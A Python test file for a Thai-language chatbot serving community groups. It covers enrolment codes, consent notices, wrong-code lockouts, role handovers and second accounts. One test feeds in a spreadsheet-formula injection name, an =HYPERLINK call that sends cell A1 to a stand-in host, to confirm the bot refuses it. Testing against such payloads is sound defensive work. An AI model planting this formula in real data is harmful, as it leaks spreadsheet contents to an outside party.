"""Link codes, consent, attempt limits, handovers and second accounts, through the conversation
core (console channel) on SQLite and PostgreSQL, with the demo district."""

from __future__ import annotations

import itertools
from datetime import timedelta

import pytest
from sqlalchemy import select

from bot.clock import FixedClock
from bot.messages import InboundMessage, Reply
from bot.services import admin
from bot.services import enrolment_codes as codes
from bot.services.enrolment_codes import CodeKind
from bot.storage.models import AuditLog, ChatRoom, Outbox, Person
from tests.support.chat import Chat

_events = itertools.count(1)


async def issue(chat: Chat, kind: CodeKind, target: int) -> str:
    async with chat.app.uow() as uow:
        code = await admin.issue_code(uow, kind, target, chat.app.clock.now(), chat.app.settings)
        await uow.commit()
    return code


async def join_code(chat: Chat) -> str:
    async with chat.app.uow() as uow:
        group = await uow.groups.get(chat.ids.egg_group_id)
    assert group is not None and group.join_code is not None
    return group.join_code


async def person_of(chat: Chat, who: str) -> int | None:
    async with chat.app.uow() as uow:
        account = await uow.people.account("console", f"guest:{who}")
    return account.person_id if account else None


async def role_of(chat: Chat, person_id: int | None) -> str | None:
    if person_id is None:
        return None
    async with chat.app.uow() as uow:
        membership = await uow.groups.membership(person_id, chat.ids.egg_group_id)
    return membership.role if membership else None


async def pushes_to(chat: Chat, who: str) -> list[str]:
    """Texts pushed (not replied) to a demo persona's console account."""
    recipient = await chat.account_id(who)
    async with chat.app.uow() as uow:
        rows = await uow.session.scalars(
            select(Outbox).where(Outbox.recipient == recipient, Outbox.kind == "push")
        )
        return [Reply.from_payload(row.payload).text for row in rows]


def later(chat: Chat, minutes: float) -> None:
    clock = chat.app.clock
    assert isinstance(clock, FixedClock)
    clock.instant += timedelta(minutes=minutes)


async def linked(chat: Chat, who: str, code: str) -> str:
    """A stranger links with `code` and agrees to the notice; the final reply's text."""
    notice = await chat.text(f"ลงทะเบียน {code}", who)
    assert "รหัสถูกต้อง" in notice, notice
    return await chat.text("ยินยอมค่ะ", who)


# --- codes and consent ------------------------------------------------------------------------


async def test_a_code_is_checked_before_the_privacy_notice(chat: Chat) -> None:
    answer = await chat.say("ลงทะเบียน ABCD-EFGH-JKMN", "คนแปลกหน้า")
    assert answer is not None and "ไม่พบรหัสนี้" in answer.text
    assert "ความเป็นส่วนตัว" not in answer.text and not answer.quick_replies  # no notice yet
    async with chat.app.uow() as uow:
        trail = (
            await uow.session.scalars(select(AuditLog).where(AuditLog.action == "code_refused"))
        ).all()
    assert [t.after for t in trail] == [{"outcome": "unknown"}]  # audited, never the code text
    assert "ABCD" not in str(trail[0].after)
    notice = await chat.say(f"ลงทะเบียน {await join_code(chat)}", "คนแปลกหน้า")
    assert notice is not None and "รหัสถูกต้อง" in notice.text and "ความเป็นส่วนตัว" in notice.text
    assert "สมาชิกของกลุ่มไข่เค็มสมุนไพรลูกหม่อน" in notice.text  # what the code is for


async def test_consent_with_a_polite_ending_is_understood(chat: Chat) -> None:
    code = await join_code(chat)
    await chat.say(f"เข้ากลุ่ม {code}", "คนสุภาพ")
    assert "บันทึกความยินยอมแล้ว" in await chat.text("ยินยอมค่ะ 🙏", "คนสุภาพ")
    await chat.say(f"เข้ากลุ่ม {code}", "คนลังเล")
    assert "ไม่มีข้อมูลส่วนตัวของคุณถูกเก็บไว้" in await chat.text("ไม่ยินยอมครับ", "คนลังเล")
    assert await person_of(chat, "คนลังเล") is None


async def test_codes_typed_loosely_still_work(chat: Chat) -> None:
    code = await join_code(chat)
    thai = code.translate(str.maketrans("0123456789", "๐๑๒๓๔๕๖๗๘๙"))
    typed = f"  {thai[:5].lower()} - {thai[5:]} "
    notice = await chat.text(f"เข้ากลุ่ม{typed}", "คนพิมพ์หลวม")
    assert "รหัสถูกต้อง" in notice
    assert codes.normalise("abcd efgh-jkmn") == "ABCDEFGHJKMN"
    assert codes.normalise("ABCD-EFGH-JKM0") is None  # 0 is never in a code
    assert codes.display("ABCDEFGHJKMN") == "ABCD-EFGH-JKMN"


@pytest.mark.both_databases
async def test_codes_that_grant_a_role_work_once(chat: Chat) -> None:
    async with chat.app.uow() as uow:
        officer = await admin.add_officer(
            uow, name="ใหม่ พัฒนากร", district="วังหิน", province="ศรีสะเกษ"
        )
        await uow.commit()
    code = await issue(chat, CodeKind.OFFICER, officer.id)
    assert len(code) == codes.PRIVILEGED_LENGTH
    assert "เชื่อมบัญชีพัฒนากร" in await linked(chat, "พัฒนากรตัวจริง", code)
    second = await chat.text(f"ลงทะเบียน {codes.display(code)}", "คนขโมยรหัส")
    assert "ถูกใช้ไปแล้ว" in second
    assert await person_of(chat, "คนขโมยรหัส") is None
    async with chat.app.uow() as uow:
        stored = (await uow.session.scalars(select(AuditLog.after))).all()
    assert not any(code in str(after) for after in stored)  # only a digest is kept


async def test_an_expired_code_says_so_and_counts(chat: Chat) -> None:
    code = await issue(chat, CodeKind.CHAIR, chat.ids.frog_group_id)
    later(chat, 15 * 24 * 60)  # the default expiry is 14 days
    assert "หมดอายุแล้ว" in await chat.text(f"ลงทะเบียน {code}", "คนมาช้า")
    async with chat.app.uow() as uow:
        outcomes = (
            await uow.session.scalars(
                select(AuditLog.after).where(AuditLog.action == "code_refused")
            )
        ).all()
    assert outcomes == [{"outcome": "expired"}]


# --- attempt limits ---------------------------------------------------------------------------


async def test_five_wrong_codes_lock_the_account_with_growing_back_off(chat: Chat) -> None:
    right = await join_code(chat)
    for n in range(4):
        answer = await chat.text(f"ลงทะเบียน ZZZZ-ZZZZ-ZZ{n + 2}Z", "คนเดารหัส")
        assert "ไม่พบรหัสนี้" in answer
    locked = await chat.text("ลงทะเบียน ZZZZ-ZZZZ-ZZZZ", "คนเดารหัส")
    assert "15 นาที" in locked and "พักการใส่รหัส" in locked
    assert "พักการใส่รหัส" in await chat.text(f"ลงทะเบียน {right}", "คนเดารหัส")
    assert await person_of(chat, "คนเดารหัส") is None
    later(chat, 16)
    for _ in range(4):
        await chat.text("ลงทะเบียน ZZZZ-ZZZZ-ZZZZ", "คนเดารหัส")
    assert "30 นาที" in await chat.text("ลงทะเบียน ZZZZ-ZZZZ-ZZZZ", "คนเดารหัส")  # doubled
    later(chat, 31)
    assert "รหัสถูกต้อง" in await chat.text(f"ลงทะเบียน {right}", "คนเดารหัส")


@pytest.mark.both_databases
async def test_many_wrong_codes_alert_the_officers_then_pause_code_checks(chat: Chat) -> None:
    chat.app.settings.code_failures_alarm_per_hour = 3
    chat.app.settings.code_failures_per_hour = 5
    for n in range(5):
        await chat.text("ลงทะเบียน ZZZZ-ZZZZ-ZZZZ", f"บอทเดา {n}")
    alerts = [t for t in await pushes_to(chat, "officer") if "แจ้งเตือนความปลอดภัย" in t]
    assert len(alerts) == 1 and "3 ครั้ง" in alerts[0]
    paused = await chat.text(f"ลงทะเบียน {await join_code(chat)}", "คนจริง")
    assert "พักการตรวจรหัสชั่วคราว" in paused
    later(chat, 61)
    assert "รหัสถูกต้อง" in await chat.text(f"ลงทะเบียน {await join_code(chat)}", "คนจริง")


# --- handovers --------------------------------------------------------------------------------


async def test_a_treasurer_code_for_a_held_role_asks_the_holder_first(chat: Chat) -> None:
    code = await issue(chat, CodeKind.TREASURER, chat.ids.egg_group_id)
    waiting = await linked(chat, "คนอยากเป็นเหรัญญิก", code)
    assert "มาลี ศรีสุข" in waiting and "ยืนยัน" in waiting
    newcomer = await person_of(chat, "คนอยากเป็นเหรัญญิก")
    assert await role_of(chat, newcomer) is None  # nothing changed yet
    asked = [t for t in await pushes_to(chat, "treasurer") if "ยืนยันส่งต่อ" in t]
    assert len(asked) == 1
    assert any("ยืนยันส่งต่อ" in t for t in await pushes_to(chat, "officer"))
    number = asked[0].split("ยืนยันส่งต่อ ")[1].split()[0]

    refused = await chat.text(f"ไม่ส่งต่อ {number}", "treasurer")
    assert "ไม่ส่งต่อ" in refused
    assert await role_of(chat, newcomer) is None
    async with chat.app.uow() as uow:
        malee = await uow.session.scalar(select(Person.id).where(Person.name == "มาลี ศรีสุข"))
    assert await role_of(chat, malee) == "treasurer"


async def test_the_officer_may_confirm_a_handover_and_everyone_is_told(chat: Chat) -> None:
    code = await issue(chat, CodeKind.TREASURER, chat.ids.egg_group_id)
    await linked(chat, "เหรัญญิกคนใหม่", code)
    newcomer = await person_of(chat, "เหรัญญิกคนใหม่")
    assert "ไม่พบคำขอ" in await chat.text("ยืนยันส่งต่อ 1", "member")  # not theirs to decide
    assert "ยืนยันแล้ว" in await chat.text("ยืนยันส่งต่อ", "officer")  # the only one waiting
    assert await role_of(chat, newcomer) == "treasurer"
    async with chat.app.uow() as uow:
        malee = await uow.session.scalar(select(Person.id).where(Person.name == "มาลี ศรีสุข"))
    assert await role_of(chat, malee) == "member"
    assert any("ส่งต่อจากคุณมาลี" in t for t in await pushes_to(chat, "treasurer"))


async def test_a_member_code_never_downgrades_a_treasurer(chat: Chat) -> None:
    answer = await chat.text(f"ลงทะเบียน {await join_code(chat)}", "treasurer")
    assert "เหรัญญิกของกลุ่มไข่เค็มสมุนไพรลูกหม่อนอยู่แล้ว" in answer


# --- second accounts --------------------------------------------------------------------------


async def test_a_second_account_only_with_a_code_the_first_one_asked_for(chat: Chat) -> None:
    answer = await chat.text("เพิ่มบัญชี", "member")
    code = answer.split("\n")[1].strip()
    assert codes.normalise(code) is not None and "30 นาที" in answer
    welcome = await linked(chat, "บุญมีบนโทรศัพท์ใหม่", code)
    assert "เพิ่มบัญชีนี้ให้คุณบุญมี ใจงาม" in welcome
    async with chat.app.uow() as uow:
        boonmee = await uow.session.scalar(select(Person.id).where(Person.name == "บุญมี ใจงาม"))
    assert await person_of(chat, "บุญมีบนโทรศัพท์ใหม่") == boonmee
    assert any("เพิ่งเชื่อมเป็นบัญชีเพิ่มเติม" in t for t in await pushes_to(chat, "member"))
    assert any("บัญชีเพิ่มเติม" in t for t in await pushes_to(chat, "officer"))
    assert "ถูกใช้ไปแล้ว" in await chat.text(f"ลงทะเบียน {code}", "คนอื่น")


# --- officers issue codes -----------------------------------------------------------------------


async def test_an_officer_issues_a_new_chair_code_from_chat(chat: Chat) -> None:
    answer = await chat.text("ออกรหัสประธาน กลุ่มเลี้ยงกบ", "officer")
    assert "รหัสประธานใหม่ของกลุ่มเลี้ยงกบแบบธรรมชาติ" in answer
    code = answer.split(": ", 1)[1].split("\n")[0]
    assert codes.normalise(code) is not None
    assert "ยืนยัน" in await linked(chat, "ประธานคนใหม่", code)  # ทองดี holds it: a handover
    assert "เฉพาะพัฒนากร" in await chat.text("ออกรหัสเหรัญญิก", "member")


async def test_a_name_a_spreadsheet_would_run_is_refused(chat: Chat) -> None:
    answer = await chat.text('ชื่อ =HYPERLINK("http://x.test/?"&A1,"คลิก")', "member")
    assert "ไม่ขึ้นต้นด้วยเครื่องหมาย" in answer
    async with chat.app.uow() as uow:
        names = (await uow.session.scalars(select(Person.name))).all()
    assert not any(name.startswith("=") for name in names)


# --- group chats ------------------------------------------------------------------------------


async def say_in_room(chat: Chat, text: str, who: str, room: str = "room-1") -> str:
    sender = await chat.account_id(who)
    handled = await chat.app.conversation.handle(
        InboundMessage(
            channel="console",
            sender_id=sender,
            chat_id=room,
            text=text,
            is_group=True,
            event_id=f"g{next(_events)}",
        )
    )
    assert handled.reply is not None
    return handled.reply.text


async def test_only_a_chair_treasurer_or_officer_links_a_group_chat(chat: Chat) -> None:
    code = await join_code(chat)
    assert "เฉพาะประธาน เหรัญญิก หรือพัฒนากร" in await say_in_room(chat, f"เข้ากลุ่ม {code}", "member")
    assert "เชื่อมห้องนี้กับกลุ่มไข่เค็ม" in await say_in_room(chat, f"เข้ากลุ่ม {code}", "chair")
    async with chat.app.uow() as uow:
        frog = await uow.groups.get(chat.ids.frog_group_id)
    assert frog is not None and frog.join_code
    # ทองดี chairs the frog group, not this room's group: no relinking it away.
    refused = await say_in_room(chat, f"เข้ากลุ่ม {frog.join_code}", "ทองดี โนนดู่")
    assert "เชื่อมกับกลุ่มไข่เค็ม" in refused
    async with chat.app.uow() as uow:
        room = await uow.session.scalar(select(ChatRoom).where(ChatRoom.external_id == "room-1"))
    assert room is not None and room.group_id == chat.ids.egg_group_id


async def test_a_role_code_posted_in_a_group_chat_is_revoked(chat: Chat) -> None:
    code = await issue(chat, CodeKind.TREASURER, chat.ids.egg_group_id)
    assert "ยกเลิกรหัสนี้ให้แล้ว" in await say_in_room(chat, f"เข้ากลุ่ม {code}", "chair")
    assert "ถูกยกเลิกแล้ว" in await chat.text(f"ลงทะเบียน {code}", "คนเห็นรหัสในกลุ่ม")


def test_handover_answers_are_read_the_way_people_type_them() -> None:
    from types import SimpleNamespace
    from typing import cast

    from bot.handlers.context import Context
    from bot.handlers.handover import wants_decision

    def read(text: str) -> object:
        # wants_decision reads only the text: a stand-in carrying just that is enough.
        return wants_decision(cast(Context, SimpleNamespace(text=text)))

    assert read("ยืนยันส่งต่อ 1,234") == (True, 1234)
    assert read("ไม่ส่งต่อ ๑๒ ค่ะ") == (False, 12)
    assert read("ยืนยันส่งต่อ") == (True, None)
    assert read("ยืนยันส่งต่อให้สมศรี") is None  # not an answer: left to the other rules
